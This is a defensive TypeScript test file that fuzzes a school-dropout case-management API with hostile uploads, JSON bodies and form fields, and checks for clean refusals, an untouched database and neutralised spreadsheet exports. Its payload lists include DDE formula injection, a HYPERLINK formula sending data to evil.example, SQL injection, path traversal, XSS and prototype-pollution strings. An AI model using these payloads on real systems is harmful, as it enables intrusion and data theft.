/**
 * Bad input at every entry point of the API (issue 8): malformed and hostile uploads, task submissions,
 * query parameters, JSON bodies and HTTP requests — property-based with fast-check where it fits. Every
 * one must get a clear 4xx in the error shape `{ error: { code, message, details? } }` (never a 5xx,
 * never a hang), leave the database as it was (row counts and checksums of the tables it could touch)
 * and leave the server answering. Hostile text that is accepted must be stored exactly, and must leave
 * the system in a spreadsheet as text, never as a formula.
 */
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import iconv from 'iconv-lite';
import http from 'node:http';
import net from 'node:net';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { ageOn, checkIdNumber } from '../../api/domain/id-number.js';
import { createEngineRecords, type UserTask } from '../../infra/camunda/records.js';
import { createPrisma } from '../../infra/db/prisma.js';
import { HOUSEHOLD_HEADER, REGISTRY_HEADER, child, householdRow, makeId, toCsv } from '../fixtures/imports/lists.js';
import { zipBomb } from '../fixtures/imports/zip-bomb.js';
import { demoPeople, eventually, loginAs, pupilWithoutCase } from './helpers.js';

const prisma = createPrisma(inject('appDatabaseUrl'));
const records = createEngineRecords(inject('engineDatabaseUrl'));
const apiUrl = inject('apiUrl');
const YEAR = 2026;
/** Keeps this run's ID numbers apart from any earlier run against the same database. */
const SALT = Math.floor(Math.random() * 400);
const kid = () => child(YEAR, SALT);
/** Property runs per property: enough to find the classes of bad input, small enough for ~60 s in all. */
const RUNS = 60;
/** A request that takes longer than this counts as a hang. */
const HANG_MS = 20_000;

afterAll(async () => {
  await Promise.all([records.close(), prisma.$disconnect()]);
});

// ─────────────────────────────── requests ───────────────────────────────

interface Answer {
  status: number;
  text: string;
  body: unknown;
  contentType: string;
}

/** Any request, as the holder of `token`; the body is sent byte for byte as given. */
async function send(
  method: string,
  path: string,
  opts: { token?: string; body?: string | Buffer | FormData; contentType?: string } = {},
): Promise<Answer> {
  const headers: Record<string, string> = {};
  if (opts.token) headers.authorization = `Bearer ${opts.token}`;
  if (opts.contentType) headers['content-type'] = opts.contentType;
  const body = Buffer.isBuffer(opts.body) ? new Uint8Array(opts.body) : opts.body;
  const res = await fetch(`${apiUrl}${path}`, { method, headers, body, signal: AbortSignal.timeout(HANG_MS) });
  const text = await res.text();
  const contentType = res.headers.get('content-type') ?? '';
  let parsed: unknown = text;
  if (contentType.includes('json') && text) parsed = JSON.parse(text);
  return { status: res.status, text, body: parsed, contentType };
}

/** A JSON body (already serialised when a string: invalid JSON, lone surrogates, NUL escapes…). */
const sendJson = (method: string, path: string, token: string, body: unknown) =>
  send(method, path, {
    token,
    contentType: 'application/json',
    body: typeof body === 'string' || Buffer.isBuffer(body) ? body : JSON.stringify(body),
  });

/** A refusal in the API's error shape: a 4xx, a code, a message — and nothing of the server's insides. */
function expectRefusal(
  res: Answer,
  statuses: number[] = [],
  codes: string[] = [],
): { code: string; details?: unknown } {
  const what = `${res.status} ${res.text.slice(0, 500)}`;
  expect(res.status, what).toBeGreaterThanOrEqual(400);
  expect(res.status, what).toBeLessThan(500);
  if (statuses.length) expect(statuses, what).toContain(res.status);
  expect(res.contentType, what).toContain('application/json');
  const error = (res.body as { error?: { code?: unknown; message?: unknown; details?: unknown } }).error;
  expect(error, what).toBeDefined();
  expect(typeof error!.code, what).toBe('string');
  expect(typeof error!.message, what).toBe('string');
  expect(String(error!.message).length, what).toBeGreaterThan(0);
  expect(res.text, what).not.toMatch(/prisma|SELECT |INSERT |at [\w.]+ \(|node_modules/i);
  if (codes.length) expect(codes, what).toContain(error!.code);
  return error as { code: string; details?: unknown };
}

/** Not a 5xx: either an answer or a refusal in the error shape. */
function expectNoServerError(res: Answer): void {
  expect(res.status, `${res.status} ${res.text.slice(0, 500)}`).toBeLessThan(500);
  if (res.status >= 400) expectRefusal(res);
}

async function expectHealthy(): Promise<void> {
  const res = await send('GET', '/health');
  expect(res.status, res.text).toBe(200);
}

// ─────────────────────────────── the database ───────────────────────────────

/** The tables a refused request could have touched. Sessions are left out: signing in writes them. */
const TABLES = [
  'Region',
  'School',
  'SchoolClass',
  'Child',
  'Guardian',
  'RegistryRecord',
  'RegistryChange',
  'ImportBatch',
  'DepartmentListEntry',
  'DropoutCase',
  'CaseAction',
  'CaseDocument',
  'AuditEvent',
];

/** Row count and an order-independent checksum of every row of every table (users without their log-in counters). */
async function fingerprint(): Promise<Record<string, string>> {
  const out: Record<string, string> = {};
  for (const table of TABLES) {
    const [row] = await prisma.$queryRawUnsafe<{ n: bigint; h: string | null }[]>(
      `SELECT count(*) AS n, md5(string_agg(md5(t::text), '' ORDER BY md5(t::text))) AS h FROM "${table}" t${
        // A search by ID number (or its last digits) that finds a child is a read, audited as a lookup:
        // fuzzed digits may hit one. That row is the audit doing its job, not a change.
        table === 'AuditEvent' ? ` WHERE NOT (t.action = 'READ_PERSONAL' AND t.details ? 'lookup')` : ''
      }`,
    );
    out[table] = `${row!.n}:${row!.h}`;
  }
  const [users] = await prisma.$queryRawUnsafe<{ n: bigint; h: string | null }[]>(
    `SELECT count(*) AS n, md5(string_agg(md5(concat_ws('|', id, username, "displayName", "passwordHash", role,
       "regionCode", "schoolId", "classId", active)), '' ORDER BY id)) AS h FROM "User"`,
  );
  out.User = `${users!.n}:${users!.h}`;
  return out;
}

/** Runs `attack` and proves the database is exactly as before it. */
async function unchanged(attack: () => Promise<void>): Promise<void> {
  const before = await fingerprint();
  await attack();
  expect(await fingerprint()).toEqual(before);
}

// ─────────────────────────────── hostile text ───────────────────────────────

/** What spreadsheet programs run as a formula (OWASP CSV injection), and friends. */
const FORMULAS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?"&A1,"点此")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=1+1',
  '+86 138',
  '-',
  '@',
];

/** Strings written to break parsers and queries. */
const INJECTIONS = [
  "' OR 1=1 --",
  '\'; DROP TABLE "Child"; --',
  '" OR ""="',
  '$where',
  '{"$gt":""}',
  '{"$ne":null}',
  '[object Object]',
  '__proto__',
  'constructor',
  '1 UNION SELECT * FROM "User"',
  '%',
  '_',
  '\\',
  '*',
  '../../etc/passwd',
  '<script>alert(1)</script>',
  '${7*7}',
  '{{7*7}}',
  'NaN',
  'Infinity',
  '-1',
  '0',
  '1e309',
  '9'.repeat(40),
  '-9'.repeat(20),
  '0x10',
  'true',
  'null',
  '',
  ' ',
  '\u0000',
  'a\u0000b',
  '\u202e',
  '\ud800',
  '370481',
  '37',
];

/** Unicode of every kind: any code point (lone surrogates included), graphemes, and the classic troublemakers. */
const anyText = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 60 }),
  fc.string({ unit: 'grapheme', maxLength: 30 }),
  fc.string({ unit: 'grapheme-composite', maxLength: 30 }),
  fc.constantFrom(
    '张\u200b三',
    '\u202e三张',
    'abc\u2066def\u2069',
    '李\u0000四',
    '王\u0007五',
    '\ud83d',
    '\udc00',
    '👨‍👩‍👧‍👦',
    '🇨🇳🏳️‍🌈',
    'e\u0301\u0301\u0301',
    'Z̤͔ͧ̑̓ä͖̭̈̇lͮ̒ͫǧ̗͚̚o̙̔ͮ̇͐̇',
    '\ufeff赵六',
    '\ufffd',
    'ﷺ',
    '𠀀𪚥𰻞',
    'ئۇيغۇرچە',
    '\t缩进',
    '换\n行',
    ' ',
    '',
    ...FORMULAS,
  ),
);

// ─────────────────────────────── people ───────────────────────────────

let bureau: string;
let teacher: string;
let town: string;
let supervisor: string;
let people: Awaited<ReturnType<typeof demoPeople>>;

beforeAll(async () => {
  [bureau, supervisor] = await Promise.all([loginAs('bureau'), loginAs('supervisor')]);
  people = await demoPeople(prisma);
  [teacher, town] = await Promise.all([loginAs(people.teacher.username), loginAs(people.town.username)]);
});

// ─────────────────────────────── imports ───────────────────────────────

interface ImportRefusal {
  error: { code: string; message: string; details?: { errors?: { line: number; column?: string; reason: string }[] } };
}

function importForm(bytes: Buffer | string, fields: Record<string, string> = { year: String(YEAR) }): FormData {
  const form = new FormData();
  for (const [k, v] of Object.entries(fields)) form.append(k, v);
  const data = typeof bytes === 'string' ? Buffer.from(bytes, 'utf8') : bytes;
  form.append('file', new Blob([new Uint8Array(data)]), '名单.csv');
  return form;
}

const upload = (kind: string, bytes: Buffer | string, fields?: Record<string, string>) =>
  send('POST', `/api/imports/${kind}`, { token: bureau, body: importForm(bytes, fields) });

/** An upload that must be refused as a whole (422) with a row error on `line` (and nothing written). */
function expectRowErrors(res: Answer, lines: number[]): ImportRefusal['error'] {
  const error = expectRefusal(res, [422], ['IMPORT_REJECTED']) as ImportRefusal['error'];
  const errors = error.details?.errors ?? [];
  for (const line of lines)
    expect(
      errors.map((e) => e.line),
      JSON.stringify(errors),
    ).toContain(line);
  return error;
}

/** An XLSX workbook of rows; cells given as objects (formulas) are written as such. */
async function xlsx(rows: ExcelJS.CellValue[][]): Promise<Buffer> {
  const workbook = new ExcelJS.Workbook();
  const sheet = workbook.addWorksheet('名单');
  for (const r of rows) sheet.addRow(r);
  return Buffer.from(await workbook.xlsx.writeBuffer());
}

describe('imports: hostile files are refused whole, and nothing is written', () => {
  it('refuses a zip bomb by what it really inflates, not what it declares (413), writing nothing', async () => {
    // 1 MB declaring a 4 KB sheet that inflates to 1 GB: it used to take 10 s and a gigabyte of the API.
    // The memory bound is measured in tests/unit/imports-read-table.test.ts (no timing asserted here).
    const bomb = await zipBomb(1024 ** 3, 4096);
    await unchanged(async () => {
      const res = await upload('household', bomb);
      const { code } = expectRefusal(res, [413], ['XLSX_TOO_LARGE']);
      expect(code).toBe('XLSX_TOO_LARGE');
      expect((res.body as { error: { message: string } }).error.message).toMatch(/解压后超过 100 MB/);
    });
  });

  it('refuses binary garbage, UTF-16 and broken zips (415/422), never a 5xx', async () => {
    await unchanged(async () => {
      await fc.assert(
        fc.asyncProperty(fc.uint8Array({ minLength: 1, maxLength: 4000 }), async (bytes) => {
          const res = await upload('household', Buffer.from(bytes));
          expectRefusal(res, [415, 422]);
        }),
        { numRuns: RUNS },
      );
      const file = toCsv([HOUSEHOLD_HEADER, householdRow(kid(), '荆河街道')]);
      for (const bytes of [
        iconv.encode(file, 'utf16le'),
        Buffer.concat([Buffer.from([0xff, 0xfe]), iconv.encode(file, 'utf16le')]),
        iconv.encode(file, 'utf16be'),
        // A zip that is no workbook, and the start of a workbook cut off.
        Buffer.from('PK\u0003\u0004garbage garbage garbage', 'latin1'),
        (await xlsx([HOUSEHOLD_HEADER, householdRow(kid(), '荆河街道')])).subarray(0, 300),
        // A file in Shift-JIS and one in Big5: not UTF-8, and not GBK either (or GBK that names no column).
        iconv.encode(file, 'shiftjis'),
        iconv.encode(file, 'big5'),
        Buffer.from([0xef, 0xbb, 0xbf]),
      ]) {
        expectRefusal(await upload('household', bytes), [415, 422]);
      }
    });
  });

  it('reads GBK and UTF-8 alike, and a GBK file with a broken byte is refused (415)', async () => {
    await unchanged(async () => {
      // The same bad list (an unknown town) in both encodings: the same refusal, so the text was read right.
      const file = toCsv([HOUSEHOLD_HEADER, householdRow(kid(), '不存在街道')]);
      const utf8 = await upload('household', file);
      const gbk = await upload('household', iconv.encode(file, 'gbk'));
      expect(expectRowErrors(utf8, [2]).details).toEqual(expectRowErrors(gbk, [2]).details);
      expect(JSON.stringify(gbk.body)).toContain('不存在街道');
      const broken = Buffer.concat([iconv.encode(file, 'gbk'), Buffer.from([0x81])]);
      expectRefusal(await upload('household', broken), [415, 422]);
    });
  });

  it('refuses missing, renamed and doubled columns, naming them; ignores unknown ones', async () => {
    const c = kid();
    const row = householdRow(c, '荆河街道');
    const without = (name: string) => {
      const i = HOUSEHOLD_HEADER.indexOf(name);
      return toCsv([HOUSEHOLD_HEADER.filter((_, j) => j !== i), row.filter((_, j) => j !== i)]);
    };
    const renamed = (from: string, to: string) => toCsv([HOUSEHOLD_HEADER.map((h) => (h === from ? to : h)), row]);
    await unchanged(async () => {
      for (const [file, column] of [
        [without('身份证号'), '身份证号'],
        [without('姓名'), '姓名'],
        [without('户籍所在镇街'), '户籍所在镇街'],
        [renamed('身份证号', 'ID number'), '身份证号'],
        [renamed('姓名', '名字'), '姓名'],
        [renamed('户籍所在镇街', '=户籍所在镇街'), '户籍所在镇街'],
        [
          toCsv([
            [...HOUSEHOLD_HEADER, '公民身份号码'],
            [...row, c.id],
          ]),
          '身份证号',
        ],
        [toCsv([['只有一列'], ['值']]), '身份证号'],
        [toCsv([HOUSEHOLD_HEADER]), undefined],
        ['\r\n\r\n   \r\n', undefined],
      ] as const) {
        const error = expectRefusal(await upload('household', file), [422], ['IMPORT_REJECTED']);
        if (column) expect(JSON.stringify(error), file).toContain(column);
      }
      // The poverty list needs its own column too.
      const poverty = toCsv([
        ['姓名', '身份证号', '户籍所在镇街'],
        [c.name, c.id, '荆河街道'],
      ]);
      expect(JSON.stringify(expectRefusal(await upload('poverty', poverty), [422]))).toContain('帮扶类别');
    });
    // Extra columns are ignored — including hostile ones, which are never stored.
    const extra = toCsv([
      [...HOUSEHOLD_HEADER, '备注', "=cmd|' /C calc'!A0"],
      [...row, "=cmd|' /C calc'!A0", '@SUM(1)'],
    ]);
    const res = await upload('household', extra);
    expect(res.status, res.text).toBe(201);
    const stored = await prisma.child.findUniqueOrThrow({ where: { idNumber: c.id }, include: { guardians: true } });
    expect(JSON.stringify(stored)).not.toContain('cmd|');
  });

  it('refuses random and near-miss ID numbers row by row (wrong check digit, impossible dates)', async () => {
    const shaped = fc.stringMatching(/^\d{17}[\dX]$/);
    const near = fc
      .record({
        y: fc.integer({ min: 1800, max: 2100 }),
        m: fc.integer({ min: 0, max: 13 }),
        d: fc.integer({ min: 0, max: 32 }),
        seq: fc.integer({ min: 0, max: 999 }),
        check: fc.constantFrom(...'0123456789Xx'),
      })
      .map(
        ({ y, m, d, seq, check }) =>
          `370481${y}${String(m).padStart(2, '0')}${String(d).padStart(2, '0')}${String(seq).padStart(3, '0')}${check}`,
      );
    const anyId = fc.oneof(shaped, near, fc.string({ minLength: 18, maxLength: 18 }), fc.string({ maxLength: 25 }));
    await unchanged(async () => {
      await fc.assert(
        fc.asyncProperty(fc.array(anyId, { minLength: 1, maxLength: 12 }), async (ids) => {
          // Only numbers that are invalid for the list: a real 身份证号 of a 6–14-year-old would be imported.
          const bad = ids.filter((id) => {
            const r = checkIdNumber(id);
            if (!r.ok) return true;
            const age = ageOn(r.facts.birthDate, new Date(Date.UTC(YEAR, 7, 31)));
            return age < 6 || age > 14;
          });
          fc.pre(bad.length > 0);
          const rows = bad.map((id, i) => ['儿童' + i, id, '荆河街道']);
          const res = await upload('household', toCsv([['姓名', '身份证号', '户籍所在镇街'], ...rows]));
          expectRowErrors(
            res,
            bad.map((_, i) => i + 2),
          );
        }),
        { numRuns: RUNS },
      );
      // The named classics.
      const good = kid();
      const wrongCheck = good.id.slice(0, 17) + (good.id[17] === '0' ? '1' : '0');
      const feb30 = makeId('2016-02-28', 7, 'MALE').replace('20160228', '20160230');
      for (const id of [
        wrongCheck,
        feb30,
        '370481201613450012',
        '37048120160101001',
        '3704812016010100123',
        'X'.repeat(18),
      ]) {
        const res = await upload(
          'household',
          toCsv([
            ['姓名', '身份证号', '户籍所在镇街'],
            ['某某', id, '荆河街道'],
          ]),
        );
        expectRowErrors(res, [2]);
      }
    });
  });

  it('refuses duplicates within a file, and a 学籍号 another child already holds', async () => {
    const [a, b] = [kid(), kid()];
    await unchanged(async () => {
      const twice = toCsv([
        HOUSEHOLD_HEADER,
        householdRow(a, '荆河街道'),
        householdRow(b, '荆河街道'),
        householdRow(a, '荆河街道'),
      ]);
      const error = expectRowErrors(await upload('household', twice), [4]);
      expect(JSON.stringify(error)).toContain('重复');
      // The same number written differently (lower-case x, full-width digits, spaces) is the same number.
      const x = { ...a, id: a.id };
      const variant = x.id.replace(/\d/, (d) => String.fromCharCode(0xff10 + Number(d))).toLowerCase();
      const disguised = toCsv([
        HOUSEHOLD_HEADER,
        householdRow(a, '荆河街道'),
        householdRow({ ...a, id: ` ${variant} ` }, '荆河街道'),
      ]);
      expectRowErrors(await upload('household', disguised), [3]);
    });
    // Against the database: a register naming a 学籍号 that belongs to a seeded pupil, for another child.
    const holder = await prisma.child.findFirstOrThrow({ where: { studentNumber: { not: null } } });
    const school = await prisma.school.findFirstOrThrow({
      where: { regionCode: { startsWith: '370481' }, kind: 'PRIMARY' },
    });
    await unchanged(async () => {
      const res = await upload(
        'registry',
        toCsv([REGISTRY_HEADER, [holder.studentNumber!, b.name, '', b.id, school.code, '4', '（9）班', '在籍']]),
      );
      expect(JSON.stringify(expectRowErrors(res, [2]))).toContain('学籍号');
    });
  });

  it('refuses formula injection in any cell of CSV and XLSX (422), whatever follows the prefix', async () => {
    const columns = ['姓名', '户籍地址', '现居住地址', '监护人姓名'];
    await unchanged(async () => {
      await fc.assert(
        fc.asyncProperty(
          fc.constantFrom(...columns),
          fc.constantFrom('=', '+', '-', '@', ' =', '\t=', '\u200b='),
          fc.string({ maxLength: 30 }),
          async (column, prefix, rest) => {
            // A plain negative number is no formula; anything else after the prefix is refused.
            fc.pre(!/^-\d+(\.\d+)?$/.test((prefix + rest).trim()));
            const row = householdRow(kid(), '荆河街道', { [column]: prefix + rest.replace(/[\r\n"]/g, '') });
            expectRowErrors(await upload('household', toCsv([HOUSEHOLD_HEADER, row])), [2]);
          },
        ),
        { numRuns: RUNS },
      );
      for (const formula of FORMULAS) {
        const row = householdRow(kid(), '荆河街道', { 姓名: formula });
        expectRowErrors(await upload('household', toCsv([HOUSEHOLD_HEADER, row])), [2]);
      }
      // XLSX: a real formula cell, and a string cell that starts like one.
      const c = kid();
      const formulaCell = await xlsx([
        HOUSEHOLD_HEADER,
        householdRow(c, '荆河街道').map((v, i) => (i === 0 ? { formula: 'HYPERLINK("http://evil.example","x")' } : v)),
      ]);
      expectRowErrors(await upload('household', formulaCell), [2]);
      const textCell = await xlsx([HOUSEHOLD_HEADER, householdRow(kid(), '荆河街道', { 姓名: "=cmd|' /C calc'!A0" })]);
      expectRowErrors(await upload('household', textCell), [2]);
    });
  });

  it('refuses control characters and broken text that an XLSX cell can smuggle in (_x0000_, lone surrogates)', async () => {
    await unchanged(async () => {
      // exceljs reads the escapes Excel writes for control characters in a shared string (`_x0000_` is
      // NUL), and a lone surrogate (`_xD800_`), back into the cell text.
      for (const name of ['钱_x0000_七', '王_x0007_五', '_xD800_赵', '\u202e三张', '赵\ufffd', '换\n行']) {
        const book = await xlsx([HOUSEHOLD_HEADER, householdRow(kid(), '荆河街道', { 姓名: name })]);
        expectRowErrors(await upload('household', book), [2]);
      }
      // An address may hold a line break (Alt+Enter in a cell), but not a NUL.
      const book = await xlsx([HOUSEHOLD_HEADER, householdRow(kid(), '荆河街道', { 户籍地址: '幸福路_x0000_1号' })]);
      expectRowErrors(await upload('household', book), [2]);
      // In CSV a name with a line break is refused just the same.
      const csv = toCsv([HOUSEHOLD_HEADER, householdRow(kid(), '荆河街道', { 姓名: '换\n行' })]);
      expectRowErrors(await upload('household', csv), [2]);
    });
  });

  it('refuses bad form fields and the wrong kind of request body', async () => {
    const file = toCsv([HOUSEHOLD_HEADER, householdRow(kid(), '荆河街道')]);
    await unchanged(async () => {
      for (const fields of [
        { year: 'abc' },
        { year: '1999' },
        { year: '2026.5' },
        { year: "2026' OR 1=1 --" },
        { year: '1e3' },
        { year: String(2 ** 53) },
        { county: '370402' },
        { county: "370481' --" },
        { county: '37048' },
      ] as Record<string, string>[]) {
        expectRefusal(await upload('household', file, fields), [400, 403]);
      }
      expectRefusal(
        await send('POST', '/api/imports/household', { token: bureau, contentType: 'text/csv', body: file }),
      );
      expectRefusal(await sendJson('POST', '/api/imports/household', bureau, { file }));
      expectRefusal(
        await send('POST', '/api/imports/passwords', { token: bureau, body: importForm(file) }),
        [400, 404],
      );
      expectRefusal(
        await send('POST', '/api/imports/__proto__', { token: bureau, body: importForm(file) }),
        [400, 404],
      );
      // Two files, a field that is a file, no file at all, a multipart body cut off in the middle.
      const two = importForm(file);
      two.append('file', new Blob([file]), 'second.csv');
      expectRefusal(await send('POST', '/api/imports/household', { token: bureau, body: two }), [400]);
      const noFile = new FormData();
      noFile.append('year', '2026');
      expectRefusal(await send('POST', '/api/imports/household', { token: bureau, body: noFile }), [400]);
      const cut = `--XX\r\nContent-Disposition: form-data; name="file"; filename="a.csv"\r\n\r\n${file}`;
      expectRefusal(
        await send('POST', '/api/imports/household', {
          token: bureau,
          contentType: 'multipart/form-data; boundary=XX',
          body: cut,
        }),
        [400, 415, 422],
      );
      expectRefusal(
        await send('POST', '/api/imports/household', {
          token: bureau,
          contentType: 'multipart/form-data',
          body: cut,
        }),
        [400, 415, 422],
      );
      // Not the bureau: a teacher may not import at all.
      expectRefusal(await send('POST', '/api/imports/household', { token: teacher, body: importForm(file) }), [403]);
    });
  });

  /** Streams `total` bytes of a multipart upload; resolves with the status and how much had been sent by then. */
  function bigUpload(total: number, declareLength: boolean): Promise<{ status: number; sent: number; body: string }> {
    const url = new URL(`${apiUrl}/api/imports/household`);
    const head = Buffer.from(
      '--BIG\r\nContent-Disposition: form-data; name="file"; filename="big.csv"\r\nContent-Type: text/csv\r\n\r\n',
    );
    const tail = Buffer.from('\r\n--BIG--\r\n');
    const chunk = Buffer.alloc(1024 * 1024, 'a');
    return new Promise((resolve, reject) => {
      let sent = 0;
      let settled = false;
      const headers: Record<string, string | number> = {
        authorization: `Bearer ${bureau}`,
        'content-type': 'multipart/form-data; boundary=BIG',
      };
      if (declareLength) headers['content-length'] = head.length + total + tail.length;
      const req = http.request({ method: 'POST', host: url.hostname, port: url.port, path: url.pathname, headers });
      const timer = setTimeout(() => {
        settled = true;
        req.destroy();
        reject(new Error(`no answer after ${sent} bytes`));
      }, 60_000);
      let answer: { status: number; sent: number; body: string } | undefined;
      const finish = () => {
        if (settled || !answer) return;
        clearTimeout(timer);
        settled = true;
        resolve(answer);
        req.destroy();
      };
      req.on('response', (res) => {
        // How much had been sent when the answer came.
        answer = { status: res.statusCode ?? 0, sent, body: '' };
        res.on('data', (d) => (answer!.body += d));
        res.on('end', finish);
        res.on('close', finish);
      });
      req.on('error', (err) => {
        // The server closing the connection on a refused upload ends our sending: fine once it answered.
        if (answer) return finish();
        if (!settled) {
          clearTimeout(timer);
          settled = true;
          reject(err);
        }
      });
      const pump = () => {
        if (settled) return;
        if (sent === 0) req.write(head);
        while (sent < total && !settled) {
          sent += chunk.length;
          if (!req.write(chunk)) {
            req.once('drain', pump);
            return;
          }
        }
        if (!settled) req.end(tail);
      };
      pump();
    });
  }

  it('refuses a 100 MB upload with 413 before reading it, by its declared length', async () => {
    await unchanged(async () => {
      const res = await bigUpload(100 * 1024 * 1024, true);
      expect(res.status, res.body).toBe(413);
      expect(JSON.parse(res.body)).toMatchObject({ error: { code: 'FILE_TOO_LARGE' } });
      // The refusal came while the client was still sending, long before 100 MB.
      expect(res.sent).toBeLessThan(60 * 1024 * 1024);
    });
    await expectHealthy();
  });

  it('refuses a 100 MB upload sent without a length (chunked) with 413 once it passes the limit', async () => {
    await unchanged(async () => {
      const res = await bigUpload(100 * 1024 * 1024, false);
      expect(res.status, res.body).toBe(413);
      expect(JSON.parse(res.body)).toMatchObject({ error: { code: 'FILE_TOO_LARGE' } });
      expect(res.sent).toBeLessThan(100 * 1024 * 1024);
    });
    await expectHealthy();
  });
});

// ─────────────────────────────── exports ───────────────────────────────

describe('exports: hostile names leave as text, never as formulas', () => {
  it('neutralises a school and a town named like a formula in the CSV and XLSX downloads', async () => {
    const hostileSchool = "=cmd|' /C calc'!A0";
    const hostileTown = "@SUM(1+1)*cmd|' /C calc'!A0";
    const townRow = await prisma.region.findFirstOrThrow({
      where: { level: 'TOWN', code: { startsWith: '370481' } },
      orderBy: { code: 'desc' },
    });
    const code = String(3_170_000_000 + Math.floor(Math.random() * 9_999_999));
    const created = await sendJson('POST', '/api/schools', bureau, {
      code,
      name: hostileSchool,
      kind: 'PRIMARY',
      regionCode: townRow.code,
    });
    expect(created.status, created.text).toBe(201);
    // Stored as text, exactly.
    expect((await prisma.school.findUniqueOrThrow({ where: { code } })).name).toBe(hostileSchool);
    const renamed = await sendJson('PUT', `/api/towns/${townRow.id}`, bureau, { name: hostileTown });
    expect(renamed.status, renamed.text).toBe(200);
    try {
      const csv = await send('GET', `/api/reports/dropouts?county=370481&period=${YEAR}-10&format=csv`, {
        token: bureau,
      });
      expect(csv.status, csv.text).toBe(200);
      const cells = (parse(csv.text.replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][]).flat();
      expect(cells).toContain(`'${hostileSchool}`);
      expect(cells).toContain(`'${hostileTown}`);
      for (const cell of cells) expect(cell, cell).not.toMatch(/^[=+\-@\t\r\n]|^\s+[=+\-@]/);

      const file = await fetch(`${apiUrl}/api/reports/dropouts?county=370481&period=${YEAR}-10&format=xlsx`, {
        headers: { authorization: `Bearer ${bureau}` },
      });
      expect(file.status).toBe(200);
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(Buffer.from(await file.arrayBuffer()) as unknown as ExcelJS.Buffer);
      const values: ExcelJS.CellValue[] = [];
      workbook.worksheets[0]!.eachRow((row) => row.eachCell((cell) => values.push(cell.value)));
      // Typed string cells: no cell of the download is a formula.
      expect(values.some((v) => typeof v === 'object' && v !== null && ('formula' in v || 'sharedFormula' in v))).toBe(
        false,
      );
      const texts = values.filter((v): v is string => typeof v === 'string');
      expect(texts.some((v) => v.includes('cmd|'))).toBe(true);
      for (const v of texts) expect(v, v).not.toMatch(/^[=+\-@\t\r\n]|^\s+[=+\-@]/);
    } finally {
      await sendJson('PUT', `/api/towns/${townRow.id}`, bureau, { name: townRow.name });
    }
  });
});

// ─────────────────────────────── task submissions ───────────────────────────────

describe('task submissions: arbitrary JSON against a real open task writes nothing', () => {
  let task: UserTask;
  let caseId: string;

  beforeAll(async () => {
    const pupil = await pupilWithoutCase(prisma, people.teacher.classId);
    const res = await sendJson('POST', '/api/dropout-reports', teacher, {
      child: pupil.id,
      lastAttendance: '2026-11-16',
      reason: '连续旷课',
    });
    expect(res.status, res.text).toBe(201);
    const processInstanceKey = (res.body as { processInstanceKey: string }).processInstanceKey;
    task = await eventually(
      async () => (await records.openUserTasks({ processInstanceKey, elementId: 'visitFamily' })).data[0],
      'the home-visit task',
    );
    caseId = (
      await eventually(
        () => prisma.dropoutCase.findUnique({ where: { processInstanceKey } }).then((c) => c ?? undefined),
        'the case',
      )
    ).id;
  });

  const complete = (body: unknown) => sendJson('POST', `/api/tasks/${task.userTaskKey}/complete`, teacher, body);

  async function stillOpen(): Promise<void> {
    expect((await records.userTask(task.userTaskKey))?.state).toBe('CREATED');
    expect(await prisma.caseAction.count({ where: { caseId, kind: 'HOME_VISIT' } })).toBe(0);
  }

  it('refuses fc.anything() and fc.json() bodies with 400/422 and the task stays open', async () => {
    await unchanged(async () => {
      await fc.assert(
        fc.asyncProperty(
          fc.oneof(
            fc.anything({ withNullPrototype: false, maxDepth: 4 }),
            fc.json({ depthSize: 'medium' }),
            fc.dictionary(fc.string(), fc.anything({ maxDepth: 2 })),
          ),
          async (body) => {
            const raw = typeof body === 'string' ? body : JSON.stringify(body);
            const res = await complete(raw === undefined ? 'undefined' : raw);
            expectRefusal(res, [400, 413, 422]);
          },
        ),
        { numRuns: RUNS * 2 },
      );
    });
    await stillOpen();
  });

  it('refuses the right fields with the wrong types, huge strings and prototype-pollution keys', async () => {
    const wrong = fc.oneof(
      fc.constant(null),
      fc.boolean(),
      fc.double(),
      fc.integer(),
      fc.array(fc.string(), { maxLength: 3 }),
      fc.dictionary(fc.string(), fc.string(), { maxKeys: 3 }),
      fc.constantFrom(
        '',
        ' ',
        '2026-02-30',
        '2026-13-01',
        '18/11/2026',
        'PERSUASION_FAILED\u0000',
        'persuasion_failed',
      ),
    );
    await unchanged(async () => {
      await fc.assert(
        fc.asyncProperty(
          fc.record(
            {
              visitedOn: fc.oneof(wrong, fc.constant('2026-11-18')),
              visitors: fc.oneof(wrong, fc.constant('王老师')),
              outcome: wrong,
            },
            { requiredKeys: [] },
          ),
          async (body) => {
            expectRefusal(await complete(body), [400, 422], ['FORM_INVALID', 'VALIDATION_FAILED']);
          },
        ),
        { numRuns: RUNS },
      );
      const valid = { visitedOn: '2026-11-18', visitors: '王老师', outcome: 'PERSUASION_FAILED' };
      const deep = '{"a":'.repeat(5000) + '1' + '}'.repeat(5000);
      const deepArray = '['.repeat(20000) + ']'.repeat(20000);
      for (const body of [
        { ...valid, visitors: 'x'.repeat(900_000) },
        { ...valid, note: '备'.repeat(300_000) },
        { ...valid, outcome: 'TRANSFER_FOUND' },
        deep,
        deepArray,
        `{"__proto__":{"isAdmin":true},"visitedOn":"2026-11-18","visitors":"王老师","outcome":"PERSUASION_FAILED"}`,
        `{"constructor":{"prototype":{"isAdmin":true}},"visitedOn":"2026-11-18","visitors":"王老师","outcome":"PERSUASION_FAILED"}`,
        `{"visitedOn":"2026-11-18","visitors":"王老师","outcome":"PERSUASION_FAILED","outcome":{"$ne":null}}`,
        '{"visitedOn":"2026-11-18","visitors":"王老师","outcome":"PERSUASION_FAILED"',
        '',
        'null',
        '[]',
        '"PERSUASION_FAILED"',
        '1e999',
      ]) {
        const res = await complete(body);
        expectRefusal(res, [400, 413, 422]);
      }
      // An empty object is a form with every field missing: each is named.
      const empty = expectRefusal(await complete({}), [422], ['FORM_INVALID']);
      expect((empty.details as { path: string[] }[]).map((d) => d.path[0]).sort()).toEqual([
        'outcome',
        'visitedOn',
        'visitors',
      ]);
    });
    await stillOpen();
    // Nothing leaked into the server's objects: a plain object has no "isAdmin".
    expect(({} as Record<string, unknown>).isAdmin).toBeUndefined();
  });

